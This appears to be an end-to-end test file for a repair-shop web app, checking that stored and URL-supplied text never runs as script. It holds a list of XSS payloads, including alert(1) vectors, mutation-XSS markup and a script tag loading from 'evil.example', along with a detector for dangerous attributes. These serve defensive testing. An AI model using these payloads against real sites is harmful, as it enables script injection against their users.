/** Tests that hostile text is shown as text wherever people's text is stored and shown. */
import { firstNameOf } from '#kernel/person-name.ts'
import { isPlainLine, withoutHidden } from '#kernel/plain-text.ts'
import type { Page } from 'playwright-core'
import { beforeAll, expect, test } from 'vitest'
import { openDb } from '#platform/db/db.ts'
import { systemClock } from '#platform/clock.ts'
import { systemRandom } from '#platform/random.ts'
import { AppError } from '#kernel/app-error.ts'
import { cleanHtml } from '#domain/guides/server/clean-html.fixture.ts'
import { savePost } from '#domain/guides/server/save-post.ts'
import { safeHtml } from '#domain/guides/server/safe-html.ts'
import { xssVectors } from '#domain/guides/server/xss-vectors.fixture.ts'
import { dataOf } from '../app/api-call.ts'
import { inBrowser, type Person } from './browser.ts'
import { openWithDatabase } from './open-with-database.ts'
import { flowOf } from './flow.ts'
import { started } from './input-methods.ts'

const here = inBrowser(openWithDatabase)

/**
 * Beside the known ones: texts that break out of attributes and templates, and markup that changes when it is parsed
 * again.
 */
const further = [
  '</title><script>alert(1)</script>',
  '"autofocus onfocus=alert(1) x="',
  "'-alert(1)-'",
  '`${alert(1)}`',
  '{{constructor.constructor("alert(1)")()}}',
  '</script><script src=//evil.example/x.js></script>',
  '<template shadowrootmode=open><img src=x onerror=alert(1)></template>',
  '<svg><style>&lt;/style&gt;&lt;img src=x onerror=alert(1)&gt;</style></svg>',
  '<math><mtext><img src=x onerror=alert(1)></mtext></math>',
  '<noscript><style></noscript><img src=x onerror=alert(1)>',
  '<a href="javascript:alert(1)"><p><a href="data:text/html,<script>alert(1)</script>">a',
  '\u202e<img src=x onerror=alert(1)>\u202c',
]
// The store accepts no NUL.
const vectors = [...xssVectors, ...further].map((one) => one.replaceAll('\0', ''))
const together = vectors.join('\n')
const oneLine = (text: string) => text.replace(/\s+/g, ' ').trim()

/** A visitor whose page must run no foreign code: no dialog, no request to another origin. */
async function aWitness(who: Parameters<typeof here.person>[0] = {}) {
  const person = await here.person(who)
  const happened: string[] = []
  person.context.on('dialog', (dialog) => {
    happened.push(`dialog: ${dialog.message()}`)
    void dialog.dismiss()
  })
  const own = new URL(here.app.url).host
  await person.context.route(
    (url) => /^https?:$/.test(url.protocol) && url.host !== own,
    (route) => {
      happened.push(`request: ${route.request().url()}`)
      return route.abort()
    },
  )
  return {
    ...person,
    /** `at` names the shown page. Violations of the content policy are checked as errors of the page. */
    isUnmoved: async (at: string) => {
      expect(await comeAlive(person.page), at).toEqual([])
      expect(happened, at).toEqual([])
      expect(person.takeTroubles(), at).toEqual([])
    },
  }
}

/** Everything in the page that could run, load from another origin, or link to a script. */
const comeAlive = (page: Page): Promise<string[]> =>
  page.evaluate(() => {
    const bad = (address: string) =>
      /^[\s\p{Cc}\p{Cf}]*(javascript|vbscript|data|livescript|blob|file|feed|view-source)\s*:/iu.test(
        address,
      ) || address.includes('evil.example')
    // Only the outbox refreshes itself, every 5 seconds.
    const kinds =
      'iframe,frame,object,embed,applet,portal,base,meta[http-equiv]:not([content="5"]),math,style,marquee,template,noembed,xmp,plaintext'
    const found = [...document.querySelectorAll(kinds)].map((one) => one.outerHTML.slice(0, 120))
    for (const one of document.querySelectorAll('*')) {
      for (const { name, value } of one.attributes) {
        const leads = /^(href|src|xlink:href|action|formaction|poster|srcset|data|background|ping)$/
        if (/^on/i.test(name) || (leads.test(name) && bad(value))) {
          found.push(`${one.tagName} ${name}=${value.slice(0, 80)}`)
        }
      }
      if (one.tagName === 'SCRIPT' && /alert\(|evil\.example/.test(one.textContent)) {
        // Our own data for the page and for search engines: texts in JSON, without an angle bracket.
        const isData =
          one.getAttribute('type') === 'application/ld+json' ||
          one.textContent.startsWith('window.__reactRouterContext.streamController.enqueue("')
        if (!isData || one.textContent.includes('<')) found.push(one.outerHTML.slice(0, 120))
      }
    }
    return found
  })

/** Navigates within the page, as a link does. */
const goWithin = (page: Page, to: string) =>
  page.evaluate((address) => {
    history.pushState(null, '', address)
    dispatchEvent(new PopStateEvent('popstate'))
  }, to)

const shelf = 'foreign'
const guideAt = (at: number) => `/blog-detail/foreign-${at}`

/** Some hide what comes after them, such as an open comment or an unclosed text element. */
const hidesTheRest = (text: string) => !safeHtml(`${text}<p>canary</p>`).includes('canary')

/** So many to a guide, and one that hides the rest only at a guide's end. */
function guidesOf(texts: readonly string[]): string[][] {
  const hiding = texts.filter(hidesTheRest)
  const others = texts.filter((text) => !hidesTheRest(text))
  const each = Math.ceil(others.length / hiding.length)
  return hiding.map((last, at) => [...others.slice(at * each, (at + 1) * each), last])
}
const guides = guidesOf(vectors)

/** Guides whose every text is hostile, as if none had been sanitized when it was written. */
beforeAll(async () => {
  const { rows } = here.app
  await rows(
    `insert into blog_categories (id, label, image_url, position) values ($1, $2, '/favicon.svg', 99)`,
    [shelf, `"><img src=x onerror=alert(1)></script><script>alert(1)</script>`],
  )
  for (const [at, texts] of guides.entries()) {
    await rows(
      `insert into blog_posts (id, slug, title, description, image_url, category_id, product_name,
         tags, status, published_at, created_at, updated_at)
       values ($1, $1, $2, $3, '/guides/x.svg', $4, $2, $5, 'published', now(), now(), now())`,
      [`foreign-${at}`, texts.join(' '), texts.join(''), shelf, JSON.stringify(texts)],
    )
  }
})

/** The pictures that these guides name do not exist. */
const noPicture = /^404 GET \/guides\/[ax]\.svg/

test('guides stored without sanitizing are shown as text, before and after hydration', async () => {
  expect(vectors.length).toBeGreaterThanOrEqual(100)
  expect(guides.flat().toSorted()).toEqual(vectors.toSorted())
  const { page, expecting, isUnmoved } = await aWitness()
  expecting(noPicture)
  for (const [at, texts] of guides.entries()) {
    await page.goto(guideAt(at), { waitUntil: 'domcontentloaded' })
    const title = oneLine(texts.join(' '))
    expect(oneLine((await page.locator('h1').textContent()) ?? '')).toBe(title)
    await isUnmoved(title)
    await page.keyboard.press('Shift')
    await started(page)
    await isUnmoved(title)
  }
})

test('the same guides are rendered by the client one after the other, and nothing runs', async () => {
  const { page, expecting, isUnmoved } = await aWitness()
  expecting(noPicture)
  await page.goto('/about')
  await started(page)
  for (const [at, texts] of guides.entries()) {
    await goWithin(page, guideAt(at))
    const title = oneLine(texts.join(' '))
    await expect
      .poll(async () => oneLine((await page.locator('h1').textContent()) ?? ''), { interval: 10 })
      .toBe(title)
    await isUnmoved(title)
  }
})

test('the list of guides, Home, the feed and the site map show them as text', async () => {
  const { page, expecting, isUnmoved } = await aWitness()
  expecting(noPicture)
  await page.goto(`/blog-list?categoryId=${shelf}`)
  await started(page)
  await expect.poll(() => page.locator('main article').count()).toBe(guides.length)
  await isUnmoved('the list')
  await page.goto('/')
  await started(page)
  await page.locator('.categories').getByText('"><img src=x').waitFor()
  await isUnmoved('Home')
  const known =
    /<\/?(?:rss|channel|title|link|description|language|item|guid|pubDate|urlset|url|loc|lastmod)\b[^<>]*>|<\?xml[^<>]*\?>/g
  for (const path of ['/guides.xml', '/sitemap.xml']) {
    const text = await (await fetch(here.app.url + path)).text()
    expect(text).toContain('foreign-0')
    expect(text.replaceAll(known, '')).not.toMatch(/[<>]/)
  }
})

test('guides that an editor saves are sanitized before they are stored, and can be shown on one page', async () => {
  const { rows, pool } = here.app
  const deps = {
    db: openDb(pool),
    clock: systemClock,
    random: systemRandom,
    contentChanged: async () => {},
  }
  const stored: string[] = []
  const by = { kind: 'colleague', id: 'selvi', name: 'Selvi' } as const
  for (const text of vectors) {
    const title = `A guide: ${text}`.slice(0, 120)
    const fields = {
      // A title with a character that cannot be seen is refused before it comes here.
      title: isPlainLine(title) ? title : 'A guide',
      description: `<p>Before.</p>${text}`,
      imageUrl: '/guides/x.svg',
      categoryId: shelf,
      productName: 'iPhone',
      tag: [],
    }
    // Some are empty after sanitizing; those are refused.
    const saved = await savePost(deps, by, { fields }).catch((error: unknown) => {
      if (error instanceof AppError) return undefined
      throw error
    })
    if (saved) stored.push(saved.description)
  }
  expect(stored.length).toBeGreaterThan(100)
  for (const text of stored) expect(text).toMatch(cleanHtml)
  await rows(`update blog_posts set description = $1 where id = 'foreign-0'`, [stored.join('')])
  // The guide was read before, and is kept until the application hears that it has changed.
  await rows("select pg_notify('content_changed', '')")
  const guide = `${here.app.url}/api/v1/app/blog/detail?slug=foreign-0`
  const parts = async () => (await (await fetch(guide)).text()).split('Before.').length
  await expect.poll(parts).toBeGreaterThan(100)
  const { page, expecting, isUnmoved } = await aWitness()
  expecting(noPicture)
  await page.goto(`${guideAt(0)}?fresh=1`)
  await started(page)
  await isUnmoved('all that was saved')
})

const idOf = async (mobileNumber: string) => {
  const [row] = await here.app.rows<{ id: string }>(
    'select id from customers where phone like $1',
    [`%${mobileNumber}`],
  )
  if (!row) throw new Error('no such customer')
  return row.id
}
const inHeader = ({ page }: Pick<Person, 'page'>) => page.locator('.user-button .wide-only')

test('a hostile name is shown as text at sign-up, in the header and in the profile', async () => {
  const visitor = await aWitness()
  const flow = flowOf(here.app, visitor)
  const hostile = '<img/src=x/onerror=alert(1)>'
  await flow.signUp({ name: hostile })
  await inHeader(visitor).getByText(hostile).waitFor()
  await visitor.isUnmoved(hostile)

  const customer = await here.app.aCustomer()
  const person = await aWitness({ customer })
  const { page } = person
  await page.goto('/profile')
  await page.getByLabel('Name').waitFor()
  let taken = 0
  for (const text of vectors) {
    // A name that is allowed is stored unchanged; the rest is refused, and shown all the same.
    const body = { name: text, email: 'kavitha@example.com' }
    const { status } = await customer.put('/customer/update', body)
    expect([200, 422]).toContain(status)
    if (status === 200) taken++
  }
  expect(taken).toBeGreaterThan(100)
  const shown = vectors.map((text) => text.replace(/\s+/g, '/'))
  const read = await page.evaluate(async (names) => {
    const seen: string[] = []
    for (const name of names) {
      localStorage.setItem('user', JSON.stringify({ name, isLoggedIn: true }))
      dispatchEvent(new StorageEvent('storage', { key: 'user' }))
      await new Promise((drawn) => setTimeout(drawn))
      seen.push(document.querySelector('.user-button .wide-only')?.textContent ?? '')
    }
    return seen
  }, shown)
  // The header shows the first name alone.
  expect(read).toEqual(shown.map(firstNameOf))
  await person.isUnmoved('the header')
  const id = await idOf(customer.mobileNumber)
  const whole = oneLine(together)
  await here.app.rows('update customers set name = $1, email = $1 where id = $2', [whole, id])
  await page.reload()
  await expect
    .poll(() => page.getByRole('textbox', { name: 'Name', exact: true }).inputValue())
    .toBe(whole)
  await expect
    .poll(() => page.getByLabel('Email').inputValue())
    .toBe(whole.replaceAll(/[\r\n]/g, ''))
  await person.isUnmoved('the profile')
})

test('a hostile address is shown as text in the list, in its dialogs and in the cart', async () => {
  const customer = await here.app.aCustomer()
  const id = await idOf(customer.mobileNumber)
  await customer.bookTo(5, { service: 'pickup' })
  for (const [at, text] of vectors.entries()) {
    await here.app.rows(
      `insert into addresses (id, customer_id, type, name, address, landmark, city, pincode, created_at, updated_at)
       values ($1, $2, $3, $3, $3, $3, $3, '600004', now(), now())`,
      [`foreign-${at}`, id, text],
    )
  }
  const person = await aWitness({ customer })
  const { page } = person
  const flow = flowOf(here.app, person)
  await page.goto('/profile/addresses')
  const book = page.locator('main li.sheet')
  await expect.poll(() => book.count()).toBe(vectors.length)
  const pageText = oneLine((await page.locator('main').textContent()) ?? '')
  for (const text of vectors) expect(pageText).toContain(oneLine(text))
  await person.isUnmoved('the address book')
  await book
    .first()
    .getByRole('button', { name: /^Edit address/ })
    .click()
  await flow.dialog.getByLabel('Address', { exact: true }).waitFor()
  await person.isUnmoved('its dialog')
  await page.keyboard.press('Escape')
  await flow.dialog.waitFor({ state: 'detached' })
  await book
    .first()
    .getByRole('button', { name: /^Delete address/ })
    .click()
  await page.getByRole('alertdialog').waitFor()
  await person.isUnmoved('the question before it is deleted')
  await page.goto('/service-enquiry')
  await flow.isAt(5)
  await expect.poll(() => page.getByRole('radio').count()).toBe(vectors.length)
  await person.isUnmoved('the cart')
})

test('a hostile note of the workshop is shown as text on the tracking page', async () => {
  const customer = await here.app.aCustomer()
  const booked = await customer.bookTo(5)
  await customer.pay(booked.orderId)
  const person = await aWitness({ customer })
  const { page } = person
  await page.goto(`/order-tracking?orderId=${booked.orderId}`)
  await page.getByText('Pre Repair Process').waitFor()
  await here.app.rows('update repair_stages set note = $1 where order_id = $2', [
    together,
    booked.orderId,
  ])
  await page.reload()
  await page.getByRole('button', { name: /^Order Placed/ }).click()
  await page.locator('main').getByText('evil.example').first().waitFor()
  const pageText = oneLine((await page.locator('main').textContent()) ?? '')
  for (const text of vectors) expect(pageText).toContain(oneLine(text))
  await person.isUnmoved('the note')
})

test('messages to the shop are stored unchanged and shown to nobody else', async () => {
  const { call, rows, url } = here.app
  const message = withoutHidden(together)
    .replaceAll(/[^\P{Cc}\n]/gu, '')
    .slice(0, 4_000)
  const line = '<script src=//evil.example/x.js></script>'
  const about = { email: 'kavitha@example.com', phone: '98765 43210', message }
  dataOf(await call('POST', '/contact/create', { ...about, name: line }))
  const quote = { ...about, name: line, company: line, deviceCount: 3 }
  dataOf(await call('POST', '/quote/create', quote))
  const stored = await rows<{ content: { name: string; message: string } }>(
    `select content from enquiries where content->>'name' = $1`,
    [line],
  )
  expect(stored).toHaveLength(2)
  for (const { content } of stored) {
    expect(content).toMatchObject({ name: line, message: message.trim() })
  }
  const person = await aWitness()
  await person.page.goto(`${url}/dev/outbox`)
  await person.page.getByText('enquiry', { exact: false }).first().waitFor()
  await expect.poll(() => person.page.locator('body').textContent()).not.toContain('evil.example')
  await person.isUnmoved('the outbox')
})

test('text in the address of a page does not become part of the page', async () => {
  const person = await aWitness()
  const { page } = person
  person.expecting(
    /^404 GET/,
    /^422 GET/,
    /^console: 404/,
    /^console: Failed to load order/,
    /^401 GET/,
  )
  const input = [
    '<script>alert(1)</script>',
    '"><img src=x onerror=alert(1)>',
    '</script><svg onload=alert(1)>',
  ].map(encodeURIComponent)
  for (const text of input) {
    for (const address of [
      `/${text}`,
      `/products/${text}`,
      `/blog-detail/${text}`,
      `/blog-list?categoryId=${text}`,
      `/contact?device=${text}`,
      `/order-tracking?orderId=${text}`,
      `/about?next=${text}#${text}`,
    ]) {
      await page.goto(address, { waitUntil: 'domcontentloaded' })
      await page.locator('h1').first().waitFor()
      expect(await comeAlive(page), address).toEqual([])
    }
  }
  await person.isUnmoved('any of them')
})
